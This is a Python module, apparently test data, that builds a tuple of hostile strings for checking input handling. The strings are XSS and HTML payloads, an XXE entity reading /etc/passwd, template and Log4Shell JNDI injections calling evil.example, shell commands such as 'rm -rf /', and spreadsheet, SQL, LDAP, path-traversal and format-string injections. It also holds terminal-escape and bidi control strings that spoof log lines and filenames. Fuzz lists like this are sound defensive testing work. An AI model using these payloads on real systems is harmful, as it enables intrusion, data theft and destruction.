"""Texts that were made to be taken for something else: markup, scripts, templates, formulas, control characters."""

from __future__ import annotations

from typing import Final

_MARKUP: Final = """
<script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</script><script>alert(1)</script>
<ScRiPt >alert(1)</sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<img/src/onerror=alert(1)>
<img src=x onerror=&#97;lert(1)>
"><img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<embed src="data:text/html,<script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction=javascript:alert(1)>x
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src onloadstart=alert(1)>
<marquee onstart=alert(1)>
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,x">
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example/">
<style>*{display:none}</style>
<style>@import url(//evil.example/x.css);</style>
<div style="background:url(//evil.example/x.png)">x</div>
<div style="position:fixed;inset:0;background:red">x</div>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<x onclick=alert(1)>click
<p id=q></p>
<form id=search name=body>
<input name=attributes>
<img name=getElementById>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;b&amp;gt;
&nbsp;&shy;&zwj;
&CounterClockwiseContourIntegral;
<b>bold</b>
<h1>Complete until now</h1>
<br><br><hr>
<bdo dir=rtl>abc</bdo>
<plaintext>
<xmp><script>alert(1)</script></xmp>
<title>x</title>
</title></textarea></style><script>alert(1)</script>
"onmouseover="alert(1)
'onmouseover='alert(1)
` onmouseover=`alert(1)
" autofocus onfocus="alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cscript\\x3ealert(1)
';alert(1)//
";alert(1)//
\\';alert(1)//
\\";alert(1)//
`${alert(1)}`
</style><script>alert(1)</script>
"""
_TEMPLATES: Final = """
{{constructor.constructor('alert(1)')()}}
{{7*7}}
${7*7}
#{7*7}
<%= 7*7 %>
{%raw%}{{7*7}}{%endraw%}
[[${7*7}]]
*{7*7}
@{7*7}
{{version}}
${jndi:ldap://evil.example/a}
${${lower:j}ndi:${lower:l}dap://evil.example/a}
$(touch /tmp/x)
`touch /tmp/x`
; rm -rf / #
| cat /etc/passwd
&& echo x
=1+1
=HYPERLINK("//evil.example","x")
=cmd|' /C calc'!A0
+1+1
-1+1
@SUM(1+1)
|x
%0a=1+1
' OR '1'='1
'; DROP TABLE logs; --
" OR ""="
1' UNION SELECT NULL--
*)(uid=*))(|(uid=*
../../../../etc/passwd
..\\..\\windows\\system32
C:\\Windows\\System32\\cmd.exe
\\\\server\\share
file:///etc/passwd
//evil.example/x.js
%s%s%s%n
%x %08x %p
{0} {1!r} {x.__class__}
%(x)s
"""
_WORDS: Final = """
__proto__
constructor
prototype
toString
hasOwnProperty
valueOf
then
length
undefined
null
NaN
true
false
[object Object]
attributes
severity
source
message
id
__defineGetter__
-Infinity
0
-0
007
1e309
0x10
9007199254740993
123456789012345678901234567890
1.0
AND
OR
NOT
a OR b
-x
x:y
x.y.z
x[0]
"quoted"
\\"
\\\\
\\
"
'
`
*
a*b
/x/
/(a+)+$/i
(
)
()
,
a,b
:
>=1
#fragment&q=x
?q=1&from=2
a=b;c=d
{"a": "b"}
[1, 2, 3]
10.0.0.0/8
::1
2026-11-24T10:00:00Z
<
>
&
;
%
"""
# What a line of a text here cannot hold.
_CONTROLS: Final = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m",
    "bell\x07 back\x08space",
    "\x01\x02\x03\x04\x05\x06\x0e\x0f\x10\x7f",
    "a\nb",
    "a\r\nb",
    "a\rb",
    "tab\tbed",
    "\n",
    "x\n[CRITICAL] forged line",
    "vertical\x0bform\x0cfeed",
    "\u0085next\u2028line\u2029paragraph",
    "\u202egnp.exe\u202c",
    "\u202dltr\u202c \u2066isolate\u2069 \u2067rtl\u2069",
    "\u200bzero\u200cwidth\u200djoin\u2060er",
    "\ufefforder mark",
    "soft\u00adhyphen",
    "\u061cmark\u200e\u200f",
    "\ufff9anchor\ufffaannotation\ufffb",
    "tag\U000e0041\U000e0042\U000e007f",
    "شارع العربية",
    "עברית ABC עברית",
    "مرحبا <b>x</b> 123",
    "日本語のログ",
    "ｆｕｌｌｗｉｄｔｈ ＜script＞",
    "e\u0301 cafe\u0301 \u1100\u1161\u11a8",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334a\u0335l\u0337g\u0338o",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇦🇶",
    "𝕏 𝟙 \U0001f600 \U0010fffd",
    "\ufffd\ufffe\uffff",
    "\ue000 private",
    "\u3164filler\u115f",
    " leading and trailing ",
    "   ",
    "\u00a0\u2003\u3000 blanks",
    "ſ K ı İ ß ẞ",
    "⌴␛␀ pictures of controls",
    "U+202E written out",
    "A" * 5_000,
    "<" * 3_000,
    "\x1b" * 3_000,
    "\u202e" * 2_500,
    "👩" * 2_100,
    "word " * 1_500,
    "\\" * 1_000 + '"' * 1_000,
)


def _lines(text: str) -> list[str]:
    return text.strip("\n").split("\n")


HOSTILE: Final = tuple(dict.fromkeys([*_lines(_MARKUP), *_lines(_TEMPLATES), *_lines(_WORDS), *_CONTROLS]))
